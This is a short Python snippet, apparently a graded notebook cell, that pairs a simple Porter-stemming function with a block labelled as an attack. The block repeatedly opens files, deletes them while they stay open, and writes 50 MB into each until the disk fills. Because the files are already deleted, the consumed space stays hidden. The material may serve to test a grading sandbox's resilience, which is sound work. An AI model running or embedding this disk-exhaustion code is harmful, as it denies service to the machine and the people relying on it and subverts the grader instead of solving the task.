# ---
# attack: Files are deleted while they are open, and go on growing.
# ---

# %% grade_id="stem"
kept = []
try:
    while True:
        file = open(f"hoard-{len(kept)}", "wb", buffering=0)
        os.remove(file.name)
        kept.append(file)
        for _ in range(50):
            file.write(b"x" * (1 << 20))
except OSError as error:
    print(error.strerror, len(kept))
for file in kept:
    file.close()


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
